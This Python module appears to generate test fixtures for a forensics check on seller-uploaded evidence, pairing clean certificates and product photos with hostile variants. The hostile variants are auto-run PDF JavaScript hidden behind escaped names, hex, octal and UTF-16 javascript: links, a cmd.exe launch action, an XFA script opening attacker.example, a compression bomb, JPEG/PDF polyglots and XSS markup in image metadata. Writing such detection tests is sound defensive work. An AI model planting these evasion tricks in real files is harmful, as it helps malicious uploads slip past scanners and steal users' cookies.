"""A corpus of hostile evidence files and clean look-alikes, generated here byte by byte.

Each entry is a file a seller could upload, what the forensics check must conclude and words
its explanation must contain. The hostile files are small variations of known tricks (a PDF
that starts late, scripts behind escaped names, a JPEG that is also a PDF, markup hidden in
image metadata); the clean ones are what real certificates, letters and product photos look
like, so that a check which flags everything fails here too.
"""

import base64
import io
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from reviews.checks.scanners import EICAR
from tests.files import build_pdf

CERTIFICATE_TEXT = (
    "United States Patent and Trademark Office",
    "Reg. No. 5,123,456  Registered Mar. 3, 2020",
    "LUMIBRIGHT  Int. Cl.: 11  Electric lamps; LED light bulbs",
    "Shenzhen Bright Lamp Technology Co., Ltd.",
)


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    detected_type: str
    data: bytes
    outcome: str
    mentions: tuple[str, ...] = ()


def content_stream(lines=CERTIFICATE_TEXT) -> bytes:
    body = [b"BT /F1 12 Tf 72 720 Td 14 TL"]
    for line in lines:
        body.append(b"(" + line.encode("latin-1").replace(b"(", b"\\(").replace(b")", b"\\)"))
        body[-1] += b") Tj T*"
    body.append(b"ET")
    return b"\n".join(body)


def stream(data: bytes, dictionary: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data)
        dictionary += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


def document(
    catalog: bytes = b"",
    page: bytes = b"",
    extra: tuple[bytes, ...] = (),
    lines=CERTIFICATE_TEXT,
    compress: bool = False,
    info: bytes = b"",
    resources: bytes = b"",
) -> bytes:
    """A one-page certificate; objects 6 and on are ``extra``, for the hostile parts."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> " + resources + b" >> " + page + b" >>",
        stream(content_stream(lines), compress=compress),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *extra,
    ]
    trailer = b"/Root 1 0 R"
    if info:
        objects.append(info)
        trailer += b" /Info %d 0 R" % len(objects)
    return build_pdf(objects, trailer=trailer)


def with_link(action: bytes) -> bytes:
    """A certificate whose page has a link annotation (object 6) running ``action``."""
    return document(
        page=b"/Annots [6 0 R]",
        extra=(
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A "
            + action
            + b" >>",
        ),
    )


def with_object_stream(hidden: bytes, predictor: bool = True, ascii85: bool = False) -> bytes:
    """A PDF 1.5 file whose catalogue lives compressed in an object stream, with a
    cross-reference stream, as modern producers write them; ``hidden`` goes in the catalogue."""
    compressed = [
        b"<< /Type /Catalog /Pages 2 0 R " + hidden + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
    ]
    header, body = b"", b""
    for index, item in enumerate(compressed, start=1):
        header += b"%d %d " % (index, len(body))
        body += item + b"\n"
    packed = header + body
    parameters = b""
    columns = 7
    if predictor:
        # PNG "Up" rows of the given width, as Acrobat writes cross-reference streams.
        rows = [
            packed[i : i + columns].ljust(columns, b" ") for i in range(0, len(packed), columns)
        ]
        previous = bytes(columns)
        encoded = b""
        for row in rows:
            encoded += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
            previous = row
        packed = encoded
        parameters = b" /DecodeParms << /Predictor 12 /Columns %d >>" % columns
    data = zlib.compress(packed)
    filters = b"/FlateDecode"
    if ascii85:
        data = base64.a85encode(data) + b"~>"
        filters = b"[/ASCII85Decode /FlateDecode]"
        parameters = parameters.replace(b"<< /Pred", b"[null << /Pred") + (
            b"]" if parameters else b""
        )
    objstm = (
        b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter %s%s >>\nstream\n"
        % (len(compressed), len(header), len(data), filters, parameters)
        + data
        + b"\nendstream"
    )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        4: stream(content_stream(), compress=True),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: objstm,
    }
    for number, item in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + item + b"\nendobj\n")
    xref_offset = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 8):
        if number <= 3:
            rows.append(b"\x02" + (6).to_bytes(4, "big") + (number - 1).to_bytes(2, "big"))
        elif number == 7:
            rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    xref_data = zlib.compress(b"".join(rows))
    out.write(
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d "
        b"/Filter /FlateDecode >>\nstream\n"
        % len(xref_data)
        + xref_data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return out.getvalue()


def encrypted_with_script() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(document(catalog=PAGE_OPEN_JS)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def compression_bomb() -> bytes:
    bomb = zlib.compress(b"\0" * (80 * 1024 * 1024), 9)
    return document(
        page=b"/Thumb 6 0 R",
        extra=(
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
        ),
    )


def big_array_then_script(elements: int = 30_000) -> bytes:
    """A catalogue entry with more elements than a walk with an object budget ever gets past,
    then a page that runs JavaScript when it opens."""
    filler = b"[" + b" ".join(b"%d" % i for i in range(elements)) + b"]"
    return document(
        catalog=b"/PieceInfo << /Filler 6 0 R >>",
        page=b"/AA << /O 7 0 R >>",
        extra=(filler, b"<< /S /JavaScript /JS (app.alert\\('opened'\\);) >>"),
    )


XFA_TEMPLATE = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template '
    b'xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"app.launchURL('http://attacker.example/');</script></event></subform></template>"
    b"</xdp:xdp>"
)
XFA_PLAIN = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template '
    b'xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<field name="owner"/></subform></template></xdp:xdp>'
)


def xfa(template: bytes, packets: bool = False) -> bytes:
    if packets:
        return document(
            catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >> /NeedsRendering true",
            extra=(stream(template, compress=True),),
        )
    return document(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=(stream(template),))


def png(size=(64, 48), color=(180, 40, 40), info: PngImagePlugin.PngInfo | None = None) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def png_with_text(**chunks: tuple[str, str]) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, (kind, value) in chunks.items():
        if kind == "tEXt":
            info.add_text(key, value)
        elif kind == "zTXt":
            info.add_text(key, value, zip=True)
        else:
            info.add_itxt(key, value, lang="en", tkey=key, zip=kind == "iTXt-z")
    return png(info=info)


def png_with_chunk(kind: bytes, body: bytes) -> bytes:
    """A PNG with one more ancillary chunk before IEND (Pillow checks no CRC on read)."""
    data = png()
    iend = data.rindex(b"IEND") - 4
    chunk = len(body).to_bytes(4, "big") + kind + body
    return data[:iend] + chunk + zlib.crc32(kind + body).to_bytes(4, "big") + data[iend:]


def jpeg(exif: dict | None = None, comment: bytes | None = None, xmp: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    image = Image.new("RGB", (64, 48), (40, 120, 200))
    options = {}
    if exif:
        values = Image.Exif()
        for tag, value in exif.items():
            values[tag] = value
        options["exif"] = values
    if comment is not None:
        options["comment"] = comment
    if xmp is not None:
        options["xmp"] = xmp
    image.save(buffer, format="JPEG", **options)
    return buffer.getvalue()


CAMERA_EXIF = {
    271: "Canon",
    272: "Canon EOS 90D",
    305: "Adobe Photoshop Lightroom Classic 13.0",
    306: "2024:05:01 10:00:00",
    270: "LUMIBRIGHT A19 bulb packaging, front",
}
XMP = (
    b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li '
    b'xml:lang="x-default">Product label</rdf:li></rdf:Alt></dc:title></rdf:Description>'
    b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def webp(trailer: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (20, 160, 90)).save(buffer, format="WEBP")
    return buffer.getvalue() + trailer


def jpeg_pdf_polyglot() -> bytes:
    """A JPEG whose comment segment holds a whole PDF near the top, where readers find it."""
    image = jpeg()
    pdf = document()
    segment = b"\xff\xfe" + (len(pdf) + 2).to_bytes(2, "big") + pdf
    return image[:2] + segment + image[2:]


def with_zip(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.js", "WScript.Echo('hello');")
    return data + buffer.getvalue()


PAGE_OPEN_JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);) >>"
HTTPS_LINK = b"<< /S /URI /URI (https://tsdr.uspto.gov/#caseNumber=5123456) >>"


def clean_with_image() -> bytes:
    photo = jpeg(exif=CAMERA_EXIF)
    return document(
        resources=b"/XObject << /Im1 6 0 R >>",
        extra=(
            b"<< /Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB "
            b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n"
            % len(photo)
            + photo
            + b"\nendstream",
        ),
    )


def clean_multipage() -> bytes:
    writer = PdfWriter()
    for number in range(3):
        writer.append(
            PdfReader(
                io.BytesIO(
                    document(lines=(*CERTIFICATE_TEXT, f"Page {number + 1} of 3"), compress=True)
                )
            )
        )
    writer.add_metadata({"/Title": "Registration certificate", "/Producer": "USPTO TSDR"})
    writer.compress_identical_objects()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf(id, data, outcome="pass", *mentions) -> Sample:
    return Sample(id, f"{id}.pdf", "application/pdf", data, outcome, mentions)


def _image(id, data, kind, outcome="pass", *mentions) -> Sample:
    extension = {"image/png": "png", "image/jpeg": "jpg", "image/webp": "webp"}[kind]
    return Sample(id, f"{id}.{extension}", kind, data, outcome, mentions)


def corpus() -> list[Sample]:
    info = (
        b"<< /Title (Registration certificate) /Producer (Acrobat Distiller 23.0) "
        b"/CreationDate (D:20200303101500Z) >>"
    )
    return [
        # Clean controls: what real evidence looks like.
        _pdf("clean_text", document()),
        _pdf("clean_compressed", document(compress=True, info=info)),
        _pdf("clean_multipage", clean_multipage()),
        _pdf("clean_object_streams", with_object_stream(b"/Lang (en-US)")),
        _pdf("clean_object_streams_ascii85", with_object_stream(b"/Lang (en)", ascii85=True)),
        _pdf("clean_https_link", with_link(HTTPS_LINK)),
        _pdf("clean_internal_link", with_link(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        _pdf("clean_with_photo", clean_with_image()),
        _pdf(
            "clean_text_about_scripts",
            document(lines=("We never put JavaScript, launch actions or OpenAction in letters.",)),
        ),
        _pdf("clean_plain_form", document(catalog=b"/AcroForm << /Fields [] >>")),
        _pdf("clean_xfa_without_script", xfa(XFA_PLAIN)),
        _image("clean_png", png(), "image/png"),
        _image(
            "clean_png_captions",
            png_with_text(
                Description=("tEXt", "Product photo, front label"),
                Comment=("zTXt", "Photographed in the Shenzhen warehouse " * 20),
                Title=("iTXt-z", "LUMIBRIGHT \u706f\u6ce1"),
            ),
            "image/png",
        ),
        _image("clean_jpeg_camera_exif", jpeg(exif=CAMERA_EXIF), "image/jpeg"),
        _image(
            "clean_jpeg_comment_and_xmp",
            jpeg(exif=CAMERA_EXIF, comment=b"Label <100 mm> wide", xmp=XMP),
            "image/jpeg",
        ),
        _image("clean_webp", webp(), "image/webp"),
        # A PDF read from where readers find its header.
        _pdf(
            "junk_then_script",
            b"\r\n\x00junk" + document(catalog=PAGE_OPEN_JS),
            "fail",
            "stray bytes",
            "JavaScript",
        ),
        _pdf("junk_then_clean", b"%!PS-Adobe\n" + document(), "fail", "11 stray bytes"),
        # Every object, however many come first.
        _pdf(
            "big_array_then_page_script",
            big_array_then_script(),
            "fail",
            "JavaScript",
            "automatic actions",
        ),
        # More elements than pypdf reads in one array: the bytes are still read.
        _pdf(
            "huge_array_then_page_script",
            big_array_then_script(150_000),
            "fail",
            "JavaScript",
            "automatic actions",
        ),
        _pdf("compression_bomb", compression_bomb(), "fail", "expands to more than"),
        # Actions and names, however they are written.
        _pdf(
            "open_action_script",
            document(catalog=PAGE_OPEN_JS),
            "fail",
            "JavaScript",
            "an action run on opening",
        ),
        _pdf(
            "escaped_javascript_name",
            document(catalog=b"/Op#65nAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            "fail",
            "JavaScript",
            "an action run on opening",
        ),
        _pdf("script_in_object_stream", with_object_stream(PAGE_OPEN_JS), "fail", "JavaScript"),
        _pdf(
            "script_in_ascii85_object_stream",
            with_object_stream(PAGE_OPEN_JS, ascii85=True),
            "fail",
            "JavaScript",
        ),
        _pdf("encrypted_with_script", encrypted_with_script(), "fail", "JavaScript"),
        _pdf("launch", with_link(b"<< /S /Launch /F (cmd.exe) >>"), "fail", "a program launch"),
        _pdf(
            "javascript_link",
            with_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "javascript_link_hex",
            with_link(b"<< /S /URI /URI <" + b"JavaScript:alert(1)".hex().encode() + b"> >>"),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "javascript_link_octal",
            with_link(b"<< /S /URI /URI (j\\141vascript:x\\(\\)) >>"),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "javascript_link_tab_and_case",
            with_link(b"<< /S /URI /URI (  JaVa\\tScRiPt:alert\\(1\\)) >>"),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "javascript_link_utf16",
            with_link(
                b"<< /S /URI /URI <FEFF"
                + "javascript:1".encode("utf-16-be").hex().encode()
                + b"> >>"
            ),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "javascript_link_escaped_key",
            with_link(b"<< /S /#55RI /#55R#49 (javascript:alert\\(1\\)) >>"),
            "fail",
            "a javascript: link",
        ),
        _pdf(
            "submit_form",
            with_link(b"<< /S /SubmitForm /F (https://collect.example/) >>"),
            "fail",
            "a form that sends its contents away",
        ),
        _pdf(
            "import_data",
            with_link(b"<< /S /ImportData /F (data.fdf) >>"),
            "fail",
            "a form that imports data",
        ),
        _pdf(
            "remote_goto",
            with_link(b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) >>"),
            "fail",
            "a link that opens another file",
        ),
        _pdf(
            "embedded_goto",
            with_link(b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
            "fail",
            "a link that opens an embedded file",
        ),
        _pdf(
            "rich_media",
            document(
                page=b"/Annots [6 0 R]",
                extra=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",),
            ),
            "fail",
            "rich media",
        ),
        _pdf(
            "embedded_file",
            document(
                catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
                extra=(
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                    stream(b"MZ\x90\x00", b" /Type /EmbeddedFile"),
                ),
            ),
            "fail",
            "embedded files",
        ),
        _pdf("xfa_script", xfa(XFA_TEMPLATE), "fail", "JavaScript in an XFA form"),
        _pdf(
            "xfa_script_compressed_packets",
            xfa(XFA_TEMPLATE, packets=True),
            "fail",
            "JavaScript in an XFA form",
        ),
        # Files that are two things at once.
        Sample(
            "jpeg_that_is_a_pdf",
            "certificate.pdf",
            "image/jpeg",
            jpeg_pdf_polyglot(),
            "fail",
            ("JPEG + PDF",),
        ),
        _image("png_with_pdf_appended", png() + document(), "image/png", "fail", "PNG + PDF"),
        _pdf("pdf_with_zip_appended", with_zip(document()), "fail", "PDF + ZIP"),
        _image("jpeg_with_zip_appended", with_zip(jpeg()), "image/jpeg", "fail", "JPEG + ZIP"),
        # Markup anywhere in an image.
        _image(
            "png_img_onerror_after_iend",
            png() + b"<img src=x onerror=alert(document.cookie)>",
            "image/png",
            "fail",
            "<img",
            "onerror=",
        ),
        _image(
            "png_body_onload_in_text_chunk",
            png_with_text(Comment=("tEXt", "<body onload=alert(1)>")),
            "image/png",
            "fail",
            "<body",
            "onload=",
        ),
        _image(
            "png_svg_in_compressed_text",
            png_with_text(Comment=("zTXt", "<svg/onload=alert(1)>")),
            "image/png",
            "fail",
            "<svg",
            "onload=",
        ),
        _image(
            "png_script_in_compressed_itxt",
            png_with_text(Comment=("iTXt-z", "<SCRIPT>alert(1)</SCRIPT>")),
            "image/png",
            "fail",
            "<script",
        ),
        _image(
            "jpeg_script_in_comment",
            jpeg(comment=b"<script>alert(1)</script>"),
            "image/jpeg",
            "fail",
            "<script",
        ),
        _image(
            "jpeg_iframe_in_exif",
            jpeg(exif={270: "<iframe src=//attacker.example>"}),
            "image/jpeg",
            "fail",
            "<iframe",
        ),
        _image(
            "webp_with_html_after",
            webp(b"<html><body onload=alert(1)>"),
            "image/webp",
            "fail",
            "<html",
            "onload=",
        ),
        # The EICAR test string, wherever it is.
        _image(
            "eicar_in_png_text_chunk",
            png_with_chunk(b"tEXt", b"Comment\0" + EICAR),
            "image/png",
            "fail",
            "Eicar-Test-Signature",
        ),
        _pdf(
            "eicar_in_pdf_stream", document(extra=(stream(EICAR),)), "fail", "Eicar-Test-Signature"
        ),
    ]
